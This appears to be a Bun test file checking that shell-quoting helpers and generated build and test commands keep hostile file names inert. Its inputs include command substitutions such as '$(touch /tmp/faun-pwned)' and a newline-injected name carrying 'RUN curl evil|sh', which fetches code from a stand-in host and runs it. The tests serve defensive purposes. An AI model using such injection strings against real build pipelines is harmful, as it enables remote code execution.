import { expect, test } from 'bun:test';
import { testInstance } from '../run/test-instance.ts';
import { sh, shellWord } from './shell.ts';
import { installSteps, REPO_SPECS, testCommand } from './specs.ts';

/** What bash makes of `words` as the arguments of printf: one line per word. */
const words = (line: string) =>
  Bun.spawnSync(['bash', '-c', `printf '%s\\n' ${line}`], { env: {} }).stdout.toString();

const hostile = [
  "it's",
  '$(touch /tmp/faun-pwned)',
  '`id`',
  'a b',
  'a;b',
  '*',
  '~',
  '$HOME',
  'a"b',
  '\\',
  '',
  '-n',
];

test('sh and shellWord: bash reads back exactly the string, nothing expands', () => {
  for (const s of hostile) {
    expect(words(sh(s))).toBe(`${s}\n`);
    expect(words(shellWord(s))).toBe(`${s}\n`);
  }
});

test('shellWord: ordinary file names stay bare (command texts, and the image hashes made from them, unchanged)', () => {
  for (const s of ['tests/test_calc.py', 'src/test/java/a/BTest.java', 'a-b_c.d+e@f%g=h:i,j'])
    expect(shellWord(s)).toBe(s);
  expect(shellWord('a b')).toBe("'a b'");
  expect(() => shellWord('a\nRUN x')).toThrow('control character');
  expect(() => shellWord('a\0b')).toThrow('control character');
});

const creating = (name: string) =>
  `diff --git a/${name} b/${name}\nnew file mode 100644\n--- /dev/null\n+++ b/${name}\n@@ -0,0 +1 @@\n+x\n`;

test("a test patch file named $(…) reaches fmt's and nlohmann/json's build steps and test commands as data", () => {
  const names = ['test/$(touch pwned).cc', 'tests/src/unit-`id`.cpp', "test/it's.cc"];
  for (const repo of ['fmtlib/fmt', 'nlohmann/json']) {
    const spec = REPO_SPECS.find((s) => s.name === repo)!;
    const inst = testInstance({ repo, language: 'cpp', test_patch: names.map(creating).join('') });
    const filled = [...installSteps(spec, inst), testCommand(spec, inst)];
    for (const line of filled) {
      // the names' loop, cut out of the step and run: each name comes back as it is
      const loop = /for f in (.*?); do/.exec(line)![1]!;
      expect(words(loop)).toBe(`${[...names].sort().join('\n')}\n`);
    }
  }
});

test('a test patch file with a newline never reaches a spec step (refused, not written into a RUN line)', () => {
  const spec = REPO_SPECS.find((s) => s.name === 'fmtlib/fmt')!;
  // as git writes such a name: C-quoted, the newline as \n
  const q = (p: string) => JSON.stringify(p);
  const name = 'test/a\nRUN curl evil|sh.cc';
  const tp = `diff --git ${q(`a/${name}`)} ${q(`b/${name}`)}\nnew file mode 100644\n--- /dev/null\n+++ ${q(`b/${name}`)}\n@@ -0,0 +1 @@\n+x\n`;
  const inst = testInstance({ repo: 'fmtlib/fmt', test_patch: tp });
  expect(() => installSteps(spec, inst)).toThrow('control character');
  const py = REPO_SPECS.find((s) => s.testCmd.includes('{test_files}'))!;
  expect(() => testCommand(py, { ...inst, repo: py.name })).toThrow('control character');
});
